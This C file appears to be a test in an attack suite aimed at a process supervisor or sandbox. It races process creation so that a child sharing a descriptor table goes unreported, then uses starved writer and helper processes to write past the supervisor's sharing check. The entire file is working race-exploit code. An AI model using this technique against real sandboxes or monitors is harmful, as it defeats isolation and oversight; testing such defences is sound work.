/* A child that shares a table is made by a parent that is killed before it can be reported; until the child is taken in, a
 * sharer counts as alone and writes natively. It is starved of its CPU between that verdict and the kernel's look at the number.
 * long
 */
#include "../attack.h"

struct shared {
    volatile int child, running, writer;
};

static struct shared *s;
static int p[2], null;
enum { NUMBER = 40 };

static int lost(void *unused)
{
    s->running = 1;
    for (double until = now() + 3; now() < until;) {
        dup2(p[1], NUMBER);
        usleep(3000);
        dup2(null, NUMBER);
        usleep(100);
    }
    return unused != NULL;
}

static int parent(void *unused)
{
    static char stack[65536];
    end_with_maker();
    run_on(0, SCHED_OTHER);
    clone(lost, stack + sizeof stack, CLONE_FILES | CLONE_PARENT_SETTID | SIGCHLD, NULL, &s->child);
    for (;;)
        pause();
    return unused != NULL;
}

/* Writes to the number, nearly always without a CPU. */
static int writer(void *unused)
{
    run_on(1, SCHED_IDLE);
    for (;;)
        write(NUMBER, "B", 1);
    return unused != NULL;
}

/* Keeps the supervisor at work with long messages. */
static void keep_busy(void)
{
    size_t size = (size_t)fewer(8 << 10) << 10;
    char *zeros = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int own[2];
    pipe2(own, O_NONBLOCK);
    for (;;)
        write(own[1], zeros, size);
}

static pid_t helper(int busy)
{
    pid_t pid = fork();
    if (pid)
        return pid;
    end_with_maker();
    run_on(busy ? 0 : 1, SCHED_OTHER);
    if (busy)
        keep_busy();
    for (;;)
        ;
}

/* Makes a child nobody tells of: it lives, but does not run. */
static void lose_child(void)
{
    static char stack[65536];
    for (int i = 0; i < 15; i++) {
        s->child = s->running = 0;
        pid_t pid = clone(parent, stack + sizeof stack, CLONE_FILES | SIGCHLD, NULL);
        while (!s->child)
            ;
        for (volatile int n = rand() % 3000; n > 0; n--)
            ;
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
        usleep(100000);
        if (!s->running)
            return;
        kill(s->child, SIGKILL);
    }
}

int main(void)
{
    static char stack[65536];
    s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pipe2(p, O_NONBLOCK);
    null = open("/dev/full", O_WRONLY);
    dup2(null, NUMBER);
    write(p[1], "A", 1);
    int reader = fcntl(p[0], F_DUPFD, 50), won = 0;
    pid_t pids[3] = {helper(0), helper(0), helper(1)};
    pid_t middle = fork();
    if (!middle) { /* the table of this process is what is fought for */
        end_with_maker();
        s->writer = clone(writer, stack + sizeof stack, CLONE_FILES | SIGCHLD, NULL);
        lose_child();
        _exit(0); /* leaves the writer and the lost child */
    }
    for (double until = now() + 3.2; now() < until && !won && (s->writer == 0 || kill(s->writer, 0) == 0); usleep(1000))
        won = foreign(reader, 'A');
    kill(middle, SIGKILL);
    for (int i = 0; i < 3; i++)
        kill(pids[i], SIGKILL);
    kill(s->writer, SIGKILL);
    kill(s->child, SIGKILL);
    end(won, "the lost child was counted");
}
